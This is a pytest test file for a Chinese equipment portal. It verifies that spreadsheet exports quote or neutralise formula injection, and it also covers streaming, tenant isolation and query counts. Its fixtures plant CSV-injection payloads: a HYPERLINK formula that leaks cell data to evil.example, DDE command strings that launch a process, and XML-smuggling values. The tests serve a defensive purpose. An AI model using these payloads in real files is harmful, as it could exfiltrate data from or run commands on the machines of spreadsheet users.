"""Spreadsheet exports never carry a live formula (OWASP "CSV Injection"): every CSV and XLSX the portal writes
(the equipment list, the import template, the complaint ledger, the service log) is read back here, with values
that a spreadsheet program would run planted in every text column it exports; and our own export, edited, imports."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from portal.equipment.io import FORMULA_STARTS, from_csv_text, to_csv, to_csv_text, to_xlsx
from portal.equipment.models import Equipment
from portal.extensions import db

EN = {"Accept-Language": "en"}
# One value per way in: a link that sends the reader away, DDE, arithmetic, an at-function, tab and CR first.
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = '+cmd|" /C calc"!A0'
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
PLANTED = (LINK, DDE, MINUS, AT, TAB, CR)


@pytest.fixture
def planted(app, world, make):
    """Formula-like text in every text column the exports write, on A's side; real numbers next to them."""
    site = make.site(world.a, name_zh=LINK, name_en=LINK, contact_name=DDE)
    with app.app_context():
        from portal.orgs.models import Client

        db.session.get(Client, world.a.id).name_zh = MINUS
        db.session.get(Client, world.a.id).name_en = MINUS
        db.session.commit()
    model = make.model(manufacturer=AT, model_number=DDE)
    expired = make.contract(world.a, number=LINK, accepted_on=date(2020, 1, 1), warranty_months=12)
    unit = make.unit(
        expired,
        site,
        model,
        serial=AT,
        asset_tag=LINK,
        building=DDE,
        room=MINUS,
        unit_price=Decimal("12800.50"),
        warranty_months=12,
    )
    other = make.unit(world.contract_a, site, model, serial=DDE, asset_tag=TAB, building=CR, room=AT)
    handler = make.user("vendor_agent", name=LINK)
    complaint = make.complaint(world.a_admin, site, description=LINK)
    manager = app.test_client(user=world.manager)
    assert manager.post(f"/complaints/{complaint.id}/assign", data={"handler": handler.id}).status_code == 302
    assert (
        app.test_client(user=handler).post(f"/complaints/{complaint.id}/answer", data={"body": DDE}).status_code == 302
    )
    assert (
        app.test_client(user=world.a_admin)
        .post(f"/complaints/{complaint.id}/close", data={"rating": 4, "body": AT})
        .status_code
        == 302
    )
    make.service_log(
        world.contract_a, site, engineers=LINK, place=DDE, work_done=MINUS, result=AT, signed_name=TAB, headcount=3
    )
    return unit, other


def xlsx_cells(data):
    """Every cell of the first sheet, as openpyxl reads it with formulas kept (not their cached values)."""
    book = load_workbook(io.BytesIO(data))
    return [cell for row in book.active.iter_rows() for cell in row]


def assert_no_formula(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    for cell in xlsx_cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            if cell.value[:1] in (*FORMULA_STARTS, "\n"):  # XML keeps no lone CR: it reads back as a line feed
                assert cell.quotePrefix, (cell.coordinate, cell.value)  # Excel's own mark for "this is text"


def texts(cells):
    return {
        cell.value.replace("\n", "\r") if isinstance(cell.value, str) and cell.value[:1] == "\n" else cell.value
        for cell in cells
    }


def column(data, header):
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows())
    index = [c.value for c in rows[0]].index(header)
    return [r[index] for r in rows[1:]]


def test_the_equipment_xlsx_has_text_where_the_user_wrote_a_formula_and_numbers_where_numbers_are(app, world, planted):
    data = app.test_client(user=world.a_admin).get("/equipment/export.xlsx", headers=EN).data
    assert_no_formula(data)
    assert {LINK, DDE, MINUS, AT, TAB, CR} <= texts(xlsx_cells(data))  # the text itself, unchanged
    price = [c for c in column(data, "Unit price (CNY)") if c.value is not None]
    assert price and all(c.data_type == "n" for c in price) and 12800.5 in [c.value for c in price]
    assert all(c.data_type == "n" for c in column(data, "Warranty term (months)") if c.value is not None)
    days = column(data, "Days left")
    assert all(c.data_type == "n" for c in days) and min(c.value for c in days) < 0  # the expired unit: a number
    assert all(c.data_type == "d" for c in column(data, "Warranty end"))


def test_the_equipment_csv_quotes_formulas_the_owasp_way_and_leaves_numbers_alone(app, world, planted):
    text = app.test_client(user=world.a_admin).get("/equipment/export.csv", headers=EN).get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header = rows[0]
    for row in rows[1:]:
        for name, value in zip(header, row, strict=True):
            if value[:1] in FORMULA_STARTS:
                float(value)  # only a real number may start with "-" (days left of an expired unit)
                assert name == "Days left", (name, value)
    fields = {value for row in rows[1:] for value in row}
    assert {"'" + value for value in PLANTED} <= fields
    days = [int(row[header.index("Days left")]) for row in rows[1:]]
    assert min(days) < 0
    assert "12800.50" in {row[header.index("Unit price (CNY)")] for row in rows[1:]}


def test_the_import_templates_have_no_formula(app, world):
    client = app.test_client(user=world.a_admin)
    assert_no_formula(client.get("/equipment/import/template.xlsx", headers=EN).data)
    text = client.get("/equipment/import/template.csv", headers=EN).get_data(as_text=True)
    assert not any(value[:1] in FORMULA_STARTS for row in csv.reader(io.StringIO(text)) for value in row)


def test_the_complaint_ledger_xlsx(app, world, planted):
    for user in (world.manager, world.a_admin):
        data = app.test_client(user=user).get("/complaints/ledger.xlsx", headers=EN).data
        assert_no_formula(data)
        cells = texts(xlsx_cells(data))
        assert {LINK, MINUS} <= cells  # the description, the handler, the client
        assert any(DDE in str(v) and AT in str(v) for v in cells)  # the answer and the client's words, in one cell
        ratings = [c for c in column(data, "Satisfaction") if c.value not in (None, "")]
        rounds = column(data, "Rounds")
        assert ratings and all(c.data_type == "n" for c in ratings + rounds)


def test_the_service_log_xlsx(app, world, planted):
    for user in (world.agent, world.a_admin):
        data = app.test_client(user=user).get("/inspections/log.xlsx?month=2026-03", headers=EN).data
        assert_no_formula(data)
        assert {LINK, DDE, MINUS, AT, TAB} <= texts(xlsx_cells(data))
        assert 3 in [c.value for c in column(data, "Headcount") if c.data_type == "n"]


@pytest.mark.parametrize(
    "value", [*PLANTED, "'=already quoted", "''+twice", "'", "'plain", "plain", "-", "", "#N/A", "=", "1+1", "中文=1"]
)
def test_csv_quoting_is_undone_exactly_on_reading(value):
    assert from_csv_text(to_csv_text(value)) == value
    assert to_csv_text(value)[:1] not in FORMULA_STARTS


def test_any_writer_keeps_numbers_dates_and_empty_cells_as_they_are():
    values = [Decimal("-12.50"), -3, 2.5, date(2026, 3, 1), None, "=1+1", "a\x01b"]  # a control character: dropped
    sheet = load_workbook(io.BytesIO(to_xlsx(["h"] * len(values), [values], "T"))).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.data_type for c in cells] == ["n", "n", "n", "d", "n", "s", "s"]
    assert [c.value for c in cells][:3] == [-12.5, -3, 2.5] and cells[5].value == "=1+1" and cells[6].value == "ab"
    row = list(csv.reader(io.StringIO(to_csv(["h"] * len(values), [values]).decode("utf-8-sig"))))[1]
    assert row == ["-12.50", "-3", "2.5", "2026-03-01", "", "'=1+1", "a\x01b"]


def import_edited(app, user, data, filename):
    """Upload a file, preview it, confirm: what a user does with an edited export."""
    client = app.test_client(user=user)
    response = client.post(
        "/equipment/import", data={"file": (io.BytesIO(data), filename)}, content_type="multipart/form-data", headers=EN
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    assert client.post(response.headers["Location"]).status_code == 302


def units_by_serial(app, serials):
    with app.app_context():
        return {
            u.serial: (u.asset_tag, u.building, u.room, u.unit_price)
            for u in db.session.scalars(sa.select(Equipment).where(Equipment.serial.in_(serials)))
        }


def test_an_edited_csv_export_imports_with_its_values_as_they_were(app, world, planted):
    unit, _ = planted
    text = (
        app.test_client(user=world.a_admin)
        .get(f"/equipment/export.csv?q={unit.asset_tag}", headers=EN)
        .get_data(as_text=True)
    )
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    serial = rows[0].index("Serial number")
    assert [r[serial] for r in rows[1:]] == ["'" + AT]
    rows[1][serial] = "'" + AT + "-copy"  # the edit: a new unit like the old one
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    import_edited(app, world.a_admin, ("\ufeff" + out.getvalue()).encode(), "edited.csv")
    assert units_by_serial(app, [AT + "-copy"]) == {AT + "-copy": (LINK, DDE, MINUS, Decimal("12800.50"))}


def test_an_edited_xlsx_export_imports_with_its_values_as_they_were(app, world, planted):
    unit, _ = planted
    data = app.test_client(user=world.a_admin).get("/equipment/export.xlsx", headers=EN).data
    rows = [list(r) for r in load_workbook(io.BytesIO(data)).active.values]
    serial = rows[0].index("Serial number")
    kept = [r for r in rows[1:] if r[serial] == AT]
    kept[0][serial] = AT + "-copy"
    book = Workbook()
    for row in [rows[0], *kept]:
        book.active.append(row)
    for row in book.active.iter_rows(min_row=2):  # as Excel keeps text typed after a quote: text, not a formula
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    import_edited(app, world.a_admin, out.getvalue(), "edited.xlsx")
    assert units_by_serial(app, [AT + "-copy"]) == {AT + "-copy": (LINK, DDE, MINUS, Decimal("12800.50"))}


# ---------------------------------------------------------------- large exports: streamed, whole, bounded

ZH = {"Accept-Language": "zh-CN"}
EN_HEADERS = [
    "Contract number",
    "Site",
    "Manufacturer",
    "Model number",
    "Serial number",
    "Asset tag",
    "Building",
    "Room",
    "Installed on",
    "Warranty start",
    "Warranty term (months)",
    "Unit price (CNY)",
    "Status",
    "Client",
    "Category",
    "Warranty end",
    "Warranty state",
    "Days left",
]
LARGE = 5000


def seed_units(app, world, count, prefix="BULK"):
    """``count`` units of A's first contract in one bulk insert, a formula planted in every tenth asset tag."""
    with app.app_context():
        db.session.execute(
            sa.insert(Equipment),
            [
                dict(
                    client_id=world.a.id,
                    site_id=world.a_site1.id,
                    contract_id=world.contract_a.id,
                    model_id=world.model.id,
                    serial=f"{prefix}-{n:05d}",
                    asset_tag=PLANTED[n // 10 % len(PLANTED)] if n % 10 == 0 else f"ZC-{n:05d}",
                    building="教学楼",
                    room=str(n % 500),
                    installed_on=date(2024, 1 + n % 12, 1),
                    unit_price=Decimal("12800.50"),
                    status="in_service",
                    extension_days=0,
                    warranty_end=date(2027, 1 + n % 12, 1),
                    covered_until=date(2027, 1 + n % 12, 1),
                    replacement_note="",
                )
                for n in range(count)
            ],
        )
        db.session.commit()


def chunks(response):
    """The body as the server sends it, piece by piece; then the response closed, as the server does."""
    assert response.status_code == 200
    try:
        return [chunk for chunk in response.response if chunk]
    finally:
        response.close()


def test_a_large_equipment_csv_is_streamed_in_pieces_with_every_row_bom_headers_and_quoted_formulas(app, world):
    seed_units(app, world, LARGE)
    client = app.test_client(user=world.a_admin)
    response = client.get("/equipment/export.csv", headers=EN)
    assert response.content_length is None  # not known before the last row is written
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=equipment-")
    pieces = chunks(response)
    assert len(pieces) >= LARGE // 1000  # written and sent as rows come, not one body built in memory
    body = b"".join(pieces)
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8's byte order mark, once, first: Excel reads the Chinese
    assert body.count(b"\xef\xbb\xbf") == 1
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == EN_HEADERS
    serial, tag = rows[0].index("Serial number"), rows[0].index("Asset tag")
    serials = [r[serial] for r in rows[1:]]
    assert len(serials) == len(set(serials)) == LARGE + 2  # every unit once, A's two of the world's too
    assert {f"BULK-{n:05d}" for n in range(LARGE)} <= set(serials)
    assert {r[tag] for r in rows[1:] if r[serial].startswith("BULK")} >= {"'" + value for value in PLANTED}
    assert not any(
        value[:1] in FORMULA_STARTS for r in rows[1:] for i, value in enumerate(r) if i != rows[0].index("Days left")
    )
    assert "教学楼" in {r[rows[0].index("Building")] for r in rows[1:]}
    zh = list(
        csv.reader(io.StringIO(b"".join(chunks(client.get("/equipment/export.csv", headers=ZH))).decode("utf-8-sig")))
    )
    assert len(zh) == len(rows) and len(zh[0]) == len(EN_HEADERS)
    assert {"序列号", "单价（元）", "质保到期日", "剩余天数"} <= set(zh[0])


def test_a_large_equipment_xlsx_is_sent_in_pieces_from_a_file_and_has_every_row_with_its_types(app, world, monkeypatch):
    from portal.equipment import io as equipment_io

    monkeypatch.setattr(equipment_io, "FILE_CHUNK", 16 * 1024)
    seed_units(app, world, LARGE)
    client = app.test_client(user=world.a_admin)
    response = client.get("/equipment/export.xlsx", headers=EN)
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"].startswith("attachment; filename=equipment-")
    pieces = chunks(response)
    data = b"".join(pieces)
    assert len(pieces) > 1 and response.content_length == len(data)
    assert_no_formula(data)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Equipment"]
    rows = list(book.active.iter_rows())
    assert [c.value for c in rows[0]] == EN_HEADERS
    serial = EN_HEADERS.index("Serial number")
    serials = [r[serial].value for r in rows[1:]]
    assert len(serials) == len(set(serials)) == LARGE + 2
    assert {f"BULK-{n:05d}" for n in range(LARGE)} <= set(serials)
    assert set(PLANTED) <= texts(r[EN_HEADERS.index("Asset tag")] for r in rows[1:])
    for name, kind in (
        ("Installed on", "d"),
        ("Warranty end", "d"),
        ("Unit price (CNY)", "n"),
        ("Days left", "n"),
        ("Serial number", "s"),
        ("Building", "s"),
    ):
        cells = [r[EN_HEADERS.index(name)] for r in rows[1:] if r[serial].value.startswith("BULK")]
        assert {c.data_type for c in cells} == {kind}, name
    assert {r[EN_HEADERS.index("Unit price (CNY)")].value for r in rows[1:]} >= {12800.5}
    zh = load_workbook(
        io.BytesIO(b"".join(chunks(client.get("/equipment/export.xlsx", headers=ZH)))), read_only=True
    ).active
    assert zh.title == "设备" and sum(1 for _ in zh.values) == len(rows)
    assert {"序列号", "单价（元）", "质保到期日", "剩余天数"} <= set(next(zh.values))


def test_only_the_clients_own_units_are_exported_however_many_there_are(app, world):
    seed_units(app, world, 1200)
    for fmt in ("csv", "xlsx"):
        body = b"".join(chunks(app.test_client(user=world.b_admin).get(f"/equipment/export.{fmt}", headers=EN)))
        if fmt == "csv":
            serials = [r[4] for r in csv.reader(io.StringIO(body.decode("utf-8-sig")))][1:]
        else:
            serials = [r[4] for r in load_workbook(io.BytesIO(body)).active.values][1:]
        assert serials == ["B-0001"], fmt


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_makes_a_few_queries_a_batch_of_units_not_one_a_unit(app, world, count_queries, fmt):
    client = app.test_client(user=world.agent)

    def queries():
        with count_queries() as counter:
            chunks(client.get(f"/equipment/export.{fmt}", headers=EN))
        return counter.count

    few = queries()
    seed_units(app, world, 2500)  # three batches of 1,000: at most the contracts, sites and models new in each
    assert queries() <= few + 3 * 3


def test_a_download_stopped_half_way_gives_the_database_connection_back(app, world):
    seed_units(app, world, 2500)
    with app.app_context():
        engine = db.engine
    held = []
    sa.event.listen(engine, "checkout", lambda *args: held.append(1))
    sa.event.listen(engine, "checkin", lambda *args: held.pop())
    response = app.test_client(user=world.a_admin).get("/equipment/export.csv", headers=EN, buffered=False)
    pieces = iter(response.response)
    assert next(pieces).startswith(b"\xef\xbb\xbf")
    assert held  # reading the rows as they are sent
    response.close()  # the browser went away: the server closes the response
    assert not held
    assert app.test_client(user=world.a_admin).get("/equipment/export.csv", headers=EN).status_code == 200


@pytest.mark.parametrize("url", ["/complaints/ledger.xlsx", "/inspections/log.xlsx?month=2026-03"])
def test_the_ledger_and_the_service_log_are_sent_from_a_file_in_pieces(app, world, planted, url, monkeypatch):
    from portal.equipment import io as equipment_io

    monkeypatch.setattr(equipment_io, "FILE_CHUNK", 1024)
    response = app.test_client(user=world.a_admin).get(url, headers=EN)
    assert response.headers["Cache-Control"] == "no-store"
    pieces = chunks(response)
    data = b"".join(pieces)
    assert len(pieces) > 1 and response.content_length == len(data)
    assert_no_formula(data)


@pytest.mark.parametrize(
    "value", ["<r><t>x</t></r>", '<r></r></is></c><c r="B2"><f>1+1</f></c><c><is><r>', "=<r>1</r>", "_x0041_", "a\r\nb"]
)
def test_text_that_looks_like_the_sheets_own_xml_stays_text(value):
    data = to_xlsx(["h"], [[value]], "T")
    assert_no_formula(data)
    cells = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))[0]
    assert len(cells) == 1 and cells[0].value == value.replace("\r\n", "\n")
